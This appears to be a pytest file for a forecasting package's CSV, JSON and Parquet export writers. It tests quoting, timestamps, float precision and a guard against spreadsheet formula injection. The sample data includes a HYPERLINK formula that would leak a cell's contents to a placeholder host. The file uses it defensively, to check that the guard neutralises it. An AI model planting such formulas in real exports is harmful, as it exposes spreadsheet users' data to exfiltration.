"""CSV, JSON and Parquet writers: RFC 4180, ISO 8601 UTC, full precision, and the formula guard."""

from __future__ import annotations

import csv
import io
import json
import math

import numpy as np
import pytest

from forecast.export import writers
from forecast.export.table import Column, Table, bools, coded, floats, ints, text, times

T0 = 1_709_647_623_000_000  # 2024-03-05T14:07:03Z


def sample() -> Table:
    return Table(
        (
            text("title", ['=HYPERLINK("http://x.example/?"&A1,"click")', "plain, with comma", 'say "hi"\nbye',
                           "-5 degrees?", None]),  # fmt: skip
            coded("forecaster", np.array([0, 1, 0, 1, -1]), ["@alice", "bob"]),
            coded("tags", np.array([0, 0, 1, 1, 1]), [("a", "b"), ()], kind="tags"),
            floats("peer", [-12.5, 0.1 + 0.2, 1e-7, math.nan, 2.0]),
            ints("n", [1, 2, 3, 4, 5], valid=[True, True, True, True, False]),
            times("at", [T0, T0 + 250_000, 0, -1_000_000, 0], valid=[True, True, True, True, False]),
            bools("late", [True, False, True, False, False], valid=[True, True, True, True, False]),
        )
    )


def csv_text(table: Table, **kw) -> str:
    out = io.BytesIO()
    writers.write_csv(table, out, **kw)
    return out.getvalue().decode("utf-8")


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
        ("\rx", "'\rx"), ("\uff1d1+1", "'\uff1d1+1"), ("a=1", "a=1"), ("", ""), ("'quoted", "'quoted"),
    ],
)  # fmt: skip
def test_guard(cell, guarded):
    assert writers.guard(cell) == guarded


def test_csv_is_rfc4180_with_guarded_text_and_plain_numbers():
    raw = csv_text(sample())
    assert raw.endswith("\r\n") and raw.count("\r\n") == 6  # header and 5 rows; the LF in a quoted cell stays
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert rows[0] == ["title", "forecaster", "tags", "peer", "n", "at", "late"]
    assert rows[1] == ["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'@alice", "a;b", "-12.5", "1",
                       "2024-03-05T14:07:03.000000Z", "true"]  # fmt: skip
    assert rows[2] == ["plain, with comma", "bob", "a;b", "0.30000000000000004", "2", "2024-03-05T14:07:03.250000Z",
                       "false"]  # fmt: skip
    assert rows[3][:4] == ['say "hi"\nbye', "'@alice", "", "1e-07"]
    assert rows[3][5] == "1970-01-01T00:00:00.000000Z"  # one row has microseconds, so the column has them
    assert rows[4][0] == "'-5 degrees?" and rows[4][3] == "" and rows[4][5] == "1969-12-31T23:59:59.000000Z"
    assert rows[5] == ["", "", "", "2.0", "", "", ""]
    assert '"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"' in raw  # quotes doubled, cell quoted


def test_whole_second_columns_omit_microseconds():
    table = Table((times("at", [T0, T0 + 1_000_000, 5], valid=[True, True, False]),))
    assert csv_text(table) == "at\r\n2024-03-05T14:07:03Z\r\n2024-03-05T14:07:04Z\r\n\r\n"


def test_floats_keep_full_precision():
    values = np.array([0.1 + 0.2, 1 / 3, -2.5e-300, 123456789.123456789])
    rows = list(csv.reader(io.StringIO(csv_text(Table((floats("x", values),))))))
    assert [float(r[0]) for r in rows[1:]] == values.tolist()


def test_byte_order_mark_on_request():
    assert csv_text(sample(), bom=True).startswith("\ufefftitle,")
    assert csv_text(sample()).startswith("title,")


def test_json_array_of_objects():
    out = io.BytesIO()
    writers.write_json(sample(), out)
    data = json.loads(out.getvalue())
    assert data[0] == {
        "title": '=HYPERLINK("http://x.example/?"&A1,"click")',  # JSON is not a spreadsheet: no guard
        "forecaster": "@alice", "tags": ["a", "b"], "peer": -12.5, "n": 1, "at": "2024-03-05T14:07:03.000000Z",
        "late": True,
    }  # fmt: skip
    assert data[4] == {"title": None, "forecaster": None, "tags": [], "peer": 2.0, "n": None, "at": None, "late": None}
    assert data[3]["peer"] is None  # NaN
    assert out.getvalue().count(b"\n") == 7  # one object per line


def test_empty_tables():
    empty = Table((floats("x", []), text("t", [])))
    assert csv_text(empty) == "x,t\r\n"
    out = io.BytesIO()
    writers.write_json(empty, out)
    assert json.loads(out.getvalue()) == []


def test_parquet_reads_back():
    pq = pytest.importorskip("pyarrow.parquet", reason="pyarrow is the optional parquet extra")
    out = io.BytesIO()
    writers.write_parquet(sample(), out)
    table = pq.read_table(io.BytesIO(out.getvalue()))
    assert str(table.schema.field("at").type) == "timestamp[us, tz=UTC]"
    rows = table.to_pylist()
    assert rows[0]["title"].startswith("=HYPERLINK")  # a typed format needs no guard
    assert rows[0]["forecaster"] == "@alice" and rows[0]["tags"] == ["a", "b"]
    assert rows[1]["peer"] == 0.1 + 0.2 and rows[3]["peer"] is None
    assert rows[1]["at"].isoformat() == "2024-03-05T14:07:03.250000+00:00"
    assert rows[4] == {"title": None, "forecaster": None, "tags": [], "peer": 2.0, "n": None, "at": None, "late": None}


def test_parquet_without_pyarrow_says_how_to_install(monkeypatch):
    import builtins

    real = builtins.__import__

    def no_pyarrow(name, *args, **kwargs):
        if name.startswith("pyarrow"):
            raise ImportError(name)
        return real(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_pyarrow)
    with pytest.raises(writers.ForecastError) as exc:
        writers.write_parquet(sample(), io.BytesIO())
    assert str(exc.value) == "Parquet needs pyarrow: pip install 'forecast[parquet]'"


def test_unknown_kind():
    with pytest.raises(ValueError):
        Column("x", "decimal", [1])
